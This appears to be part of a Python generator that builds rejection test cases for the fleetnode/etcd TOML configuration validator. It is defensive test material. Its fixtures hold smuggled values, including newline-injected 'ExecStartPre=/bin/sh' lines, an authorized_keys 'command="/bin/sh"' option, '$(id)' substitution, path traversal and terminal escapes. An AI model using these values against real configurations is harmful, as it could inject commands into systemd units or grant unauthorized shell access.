ctrl("inject-newline-core-user", BASE + f'\n[core]\nuser = "core{INJ}"\n', '"core', "core.user", 0x0A)
ctrl("inject-newline-authorized-key", BASE + f'\n[core]\nauthorized_keys = ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG ops@corp\\ncommand=\\"/bin/sh\\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH evil"]\n', '"ssh', "core.authorized_keys[0]", 0x0A)
ctrl("inject-newline-private-key-path", BASE + f'\n[core]\nprivate_key = "/etc/fleetnode/core_id{INJ}"\n', '"/etc', "core.private_key", 0x0A)
ctrl("inject-newline-health-interval", BASE + f'\n[health]\ninterval = "30s{INJ}"\n', '"30s', "health.interval", 0x0A)
ctrl("inject-cr-tls-path", BASE + '\n[etcd.tls]\nca = "/etc/pki/etcd/ca.crt\\rExecStartPre=/bin/true"\n', '"/etc', "etcd.tls.ca", 0x0D)
ctrl("inject-crlf-cluster-token", BASE + 'cluster_token = "fleet\\r\\nExecStartPre=/bin/true"\n', '"fleet', "etcd.cluster_token", 0x0D)
ctrl("inject-multiline-literal-string", BASE + "cluster_token = '''\nfleet\nExecStartPre=/bin/true'''\n", "'''", "etcd.cluster_token", 0x0A)
ctrl("inject-nul-data-dir", BASE + 'data_dir = "/var/lib/etcd\\u0000/../../etc"\n', '"/var', "etcd.data_dir", 0x00)
ctrl("inject-nul-node-name", BASE.replace('"infra0"', '"infra0\\u0000"', 1), '"infra0\\u', "node.name", 0x00)
main_case("inject-nul-metadata-key", BASE + '\n[fleet.metadata]\n"az\\u0000" = "a"\n', '"az', 'fleet.metadata."az\\u{0000}"', 'the metadata key "az\\u{0000}" cannot be passed to fleet', MD_KEY_HINT)
ctrl("inject-nel-cluster-token", BASE + 'cluster_token = "fleet\\u0085ExecStartPre=/bin/true"\n', '"fleet', "etcd.cluster_token", 0x85)
ctrl("inject-escape-sequence-name", BASE.replace('"infra0"', '"infra0\\u001b[2J"', 1), '"infra0\\u', "node.name", 0x1B)
ctrl("inject-del-data-dir", BASE + 'data_dir = "/var/lib/etcd\\u007f"\n', '"/var', "etcd.data_dir", 0x7F)
ctrl("inject-tab-metadata-value", BASE + '\n[fleet.metadata]\nregion = "eu\\tus"\n', '"eu', "fleet.metadata.region", 0x09)
t = NODE.replace('name = "infra0"', 'name = "infra0%n"') + '\n[etcd]\npeers = { "infra0%n" = "10.0.0.10" }\n'
main_case("inject-specifier-node-name", t, '"infra0%n"', "node.name", 'expected an etcd member name, found "infra0%n"',
          "use letters, digits, '.', '_' and '-' only, starting with a letter or digit, at most 63 characters")
t = BASE.replace('address = "10.0.0.10"', 'address = "%H"')
main_case("inject-specifier-address", t, '"%H"', "node.address", 'expected an IP address or a host name, found "%H"')
t = '[node]\nname = "infra0"\ninterface = "%i"\n\n[etcd]\n' + PEERS
main_case("inject-specifier-interface", t, '"%i"', "node.interface", 'expected a network interface name, found "%i"')
t = '[node]\nname = "infra0"\ninterface = "eth0\\" \\"--x"\n\n[etcd]\n' + PEERS
main_case("inject-quote-interface", t, '"eth0', "node.interface", 'expected a network interface name, found "eth0\\" \\"--x"')
t = BASE.replace('address = "10.0.0.10"', 'address = "10.0.0.10\\\\"')
main_case("inject-backslash-address", t, '"10.0.0.10\\\\"', "node.address", 'expected an IP address or a host name, found "10.0.0.10\\\\"')
t = NODE + '\n[etcd]\npeers = { infra0 = "10.0.0.10", "in\\"fra1" = "10.0.0.11" }\n'
main_case("inject-quote-peer-name", t, '"in\\"fra1"', 'etcd.peers."in\\"fra1"', 'expected an etcd member name as the peer\'s key, found "in\\"fra1"')
t = NODE + '\n[etcd]\npeers = { infra0 = "10.0.0.10", infra1 = "10.0.0.11 infra2=http://203.0.113.66:2380" }\n'
main_case("inject-peer-list-via-address", t, '"10.0.0.11 ', "etcd.peers.infra1", 'expected the peer\'s IP address or host name, found "10.0.0.11 infra2=http://203.0.113.66:2380"')
t = BASE + '\n[core]\nuser = "$(id)"\n'
main_case("inject-dollar-core-user", t, '"$(id)"', "core.user", 'expected a user name, found "$(id)"')
t = BASE + '\n[core]\nauthorized_keys = ["command=\\"/bin/sh\\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG ops@corp"]\n'
main_case("inject-authorized-keys-options", t, '"command', "core.authorized_keys[0]",
          'expected an SSH public key starting with a key type (ssh-ed25519, ssh-rsa, ecdsa-sha2-nistp256), found "command=\\"/bin/sh\\""')
t = BASE + 'data_dir = "/var/lib/etcd/../../../etc"\n'
main_case("inject-dotdot-data-dir", t, '"/var', "etcd.data_dir", 'expected an absolute path, found "/var/lib/etcd/../../../etc"')
t = BASE + 'data_dir = "%h/etcd"\n'
main_case("inject-specifier-data-dir-relative", t, '"%h', "etcd.data_dir", 'expected an absolute path, found "%h/etcd"')
t = BASE + 'cluster_token = "a,b"\n'
main_case("inject-comma-cluster-token", t, '"a,b"', "etcd.cluster_token", "expected a non-empty token without commas")

# ---------------------------------------------------------------- files
def nonutf8(name, data, pos, byte, path="etc/fleetnode.toml"):
    case(name, {"etc/fleetnode.toml": BASE.encode() if path != "etc/fleetnode.toml" else data, path: data},
         f"/{path}:{pos}: error: invalid UTF-8 (byte 0x{byte:02x})", "TOML files must be UTF-8; convert the file, e.g. with iconv")

nonutf8("file-latin1-comment", BASE.encode() + "# Gérald's cluster\n".encode("latin-1"), "7:4", 0xE9)
nonutf8("file-overlong-nul", BASE.encode() + b'cluster_token = "a\xc0\x80b"\n', "7:19", 0xC0)
nonutf8("file-lone-continuation-byte", b'[node]\nname = "infra\x800"\n', "2:14", 0x80)
nonutf8("file-truncated-sequence-at-eof", BASE.encode() + b"# \xe2\x82", "7:3", 0xE2)
nonutf8("file-utf16-bom", "\ufeff[node]\n".encode("utf-16-le"), "1:1", 0xFF)
nonutf8("file-encoded-surrogate", BASE.encode() + b'cluster_token = "\xed\xa0\x80"\n', "7:18", 0xED)
nonutf8("file-non-utf8-dropin", b"[fleet]\n# \xff\n", "2:3", 0xFF, path="etc/fleetnode.d/10-x.toml")
HUGE = "a fleetnode configuration is a few KiB; is this the right file?"
case("file-10mb-main", {}, f"{MAIN}: error: is 10485760 bytes, more than the limit of 1048576", HUGE,
     setup=["fill etc/fleetnode.toml 10485760"])
case("file-10mb-dropin", {"etc/fleetnode.toml": BASE},
     "/etc/fleetnode.d/99-big.toml: error: is 10485760 bytes, more than the limit of 1048576", HUGE,
     setup=["fill etc/fleetnode.d/99-big.toml 10485760"])
case("file-one-byte-over-limit", {}, f"{MAIN}: error: is 1048577 bytes, more than the limit of 1048576",
     setup=["fill etc/fleetnode.toml 1048577"])
case("file-sparse-16gib", {}, f"{MAIN}: error: is 17179869184 bytes, more than the limit of 1048576",
     setup=["sparse etc/fleetnode.toml 17179869184"])
case("file-symlink-loop-in-dropins", {"etc/fleetnode.toml": BASE},
     "/etc/fleetnode.d/50-a.toml: error: cannot open: Too many levels of symbolic links (os error 40)",
     "a symlink loop; make it point at a regular file",
     setup=["symlink etc/fleetnode.d/50-a.toml 60-b.toml", "symlink etc/fleetnode.d/60-b.toml 50-a.toml"])
case("file-symlink-to-itself", {"etc/fleetnode.toml": BASE},
     "/etc/fleetnode.d/50-self.toml: error: cannot open: Too many levels of symbolic links (os error 40)",
     setup=["symlink etc/fleetnode.d/50-self.toml 50-self.toml"])
case("file-dangling-symlink", {"etc/fleetnode.toml": BASE},
     "/etc/fleetnode.d/50-gone.toml: error: cannot open: No such file or directory (os error 2)",
     "the symlink points nowhere; fix or remove it",
     setup=["symlink etc/fleetnode.d/50-gone.toml /nonexistent/fleetnode-test/gone.toml"])
NOT_REG = "configuration files must be regular files (or symlinks to them); rename or remove it"
case("file-directory-named-toml", {"etc/fleetnode.toml": BASE, "etc/fleetnode.d/x.toml/README": "a directory, not a file\n"},
     "/etc/fleetnode.d/x.toml: error: is not a regular file", NOT_REG)
case("file-main-config-is-directory", {"etc/fleetnode.toml/README": "a directory, not a file\n"},
     f"{MAIN}: error: is not a regular file", NOT_REG)
case("file-symlink-to-dev-zero", {"etc/fleetnode.toml": BASE},
     "/etc/fleetnode.d/50-zero.toml: error: is not a regular file", NOT_REG,
     setup=["symlink etc/fleetnode.d/50-zero.toml /dev/zero"])
case("file-fifo-in-dropins", {"etc/fleetnode.toml": BASE},
     "/etc/fleetnode.d/50-fifo.toml: error: is not a regular file", NOT_REG,
     setup=["fifo etc/fleetnode.d/50-fifo.toml"],
     known="src/source.rs read_path opens with a blocking open(2): a FIFO blocks the generator (and `fleetnode check`) until a writer appears; check the type first or open with O_NONBLOCK")
case("file-socket-in-dropins", {"etc/fleetnode.toml": BASE},
     "/etc/fleetnode.d/50-sock.toml: error: cannot open: No such device or address (os error 6)",
     "make it readable by root, or remove it",
     setup=["socket etc/fleetnode.d/50-sock.toml"])
case("file-unreadable-proc-mem", {"etc/fleetnode.toml": BASE},
     "/etc/fleetnode.d/50-mem.toml: error: cannot read: Input/output error (os error 5)",
     "make it readable by root, or remove it",
     setup=["symlink etc/fleetnode.d/50-mem.toml /proc/self/mem"])
case("file-unreadable-mode-000", {"etc/fleetnode.toml": BASE, "etc/fleetnode.d/50-secret.toml": "[fleet]\nenabled = true\n"},
     "/etc/fleetnode.d/50-secret.toml: error: cannot open: Permission denied (os error 13)",
     "make it readable by root, or remove it",
     setup=["chmod etc/fleetnode.d/50-secret.toml 000", "skip-if-root"])
case("file-dropin-dir-is-a-file", {"etc/fleetnode.toml": BASE, "etc/fleetnode.d": "not a directory\n"},
     "/etc/fleetnode.d: error: cannot list the directory: Not a directory (os error 20)",
     "fix the directory's permissions, or remove it")
case("file-dropin-dir-symlink-loop", {"etc/fleetnode.toml": BASE},
     "/etc/fleetnode.d: error: cannot list the directory: Too many levels of symbolic links (os error 40)",
     setup=["symlink etc/fleetnode.d fleetnode.d"])
case("file-too-many-dropins", {"etc/fleetnode.toml": BASE},
     "/etc/fleetnode.d: error: 1001 .toml files, more than the limit of 1000", "merge them into fewer files",
     setup=["many etc/fleetnode.d 1001"])
case("file-non-utf8-dropin-name", {"etc/fleetnode.toml": BASE},
     '/etc/fleetnode.d: error: a file name is not valid UTF-8: "50-\\xFF.toml"', "rename or remove that file",
     setup=["touch etc/fleetnode.d/50-\\xff.toml"])
case("file-main-dangling-symlink", {},
     f"{MAIN}: error: cannot open: No such file or directory (os error 2)", "the symlink points nowhere; fix or remove it",
     setup=["symlink etc/fleetnode.toml fleetnode.toml.rpmnew"])

# ---------------------------------------------------------------- found by fuzzing
t = '"x\\nExecStartPre=/bin/sh -c id" = 1\n' + BASE
main_case("fuzz-top-level-key-with-newline", t, '"x', '"x\\u{000a}ExecStartPre=/bin/sh -c id"', "unknown section",
          "known keys here: node, etcd, proxy, fleet, core, health",
          known="src/config.rs join(): with an empty path the key is returned verbatim, not quoted, so a top-level key's control characters (here a newline) reach the diagnostic raw: the errors file and the kernel log get a forged extra line (an ESC would reach the console through `cat`); nested keys are quoted")
t = '"\\u001b[2J\\u001b[Hall good" = 1\n' + BASE
main_case("fuzz-top-level-key-with-escape", t, '"\\u001b', '"\\u{001b}[2J\\u{001b}[Hall good"', "unknown section",
          known="same bug as fuzz-top-level-key-with-newline (src/config.rs join()), with terminal escape sequences")

# ---------------------------------------------------------------- found by review
main_case("review-data-dir-root", BASE + 'data_dir = "/"\n', '"/"', "etcd.data_dir",
          'expected a dedicated directory for etcd\'s data, found "/"',
          known="src/config.rs accepts data_dir = \"/\" (is_clean_abs_path allows it), and etcd.service runs ExecStartPre=+/usr/bin/install -d -o etcd -g etcd -m 0700 \"/\": chown etcd:etcd and chmod 0700 of the root directory at every etcd start. The message is a proposal")
case("review-dropin-name-with-newline",
     {"etc/fleetnode.toml": BASE, "etc/fleetnode.d/50-x.toml": "[fleet]\nenable = true\n"},
     '/etc/fleetnode.d: error: a file name contains a control character: "50-\\u{000a}ExecStartPre=x.toml"',
     setup=["rename etc/fleetnode.d/50-x.toml etc/fleetnode.d/50-\\x0aExecStartPre=x.toml"],
     known="src/source.rs list_dropins() rejects non-UTF-8 names but takes names with control characters verbatim into diagnostics: the errors file and the kernel log get a forged line (\"ExecStartPre=x.toml:2:1: error: ...\"). The message is a proposal (reject like non-UTF-8 names, or escape the name)")


def write(root, rel, content):
    p = os.path.join(root, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(content if isinstance(content, bytes) else content.encode())


def main():
    names = set()
    wanted = {c[0] for c in CASES}
    for old in os.listdir(HERE):
        if os.path.isdir(os.path.join(HERE, old)) and old[4:] in wanted:
            shutil.rmtree(os.path.join(HERE, old))
    for i, (name, files, expected, hint, setup, known) in enumerate(CASES, start=1):
        if name in names:
            sys.exit(f"duplicate case name {name}")
        names.add(name)
        d = os.path.join(HERE, f"{i:03d}-{name}")
        os.makedirs(os.path.join(d, "etc"))
        for rel, content in files.items():
            write(d, rel, content)
        write(d, "expected", expected + "\n" + (f"hint: {hint}\n" if hint else ""))
        if setup:
            write(d, "setup", "".join(s + "\n" for s in setup))
        if known:
            write(d, "known-failure", known + "\n")
    print(f"{len(CASES)} cases")


if __name__ == "__main__":
    main()
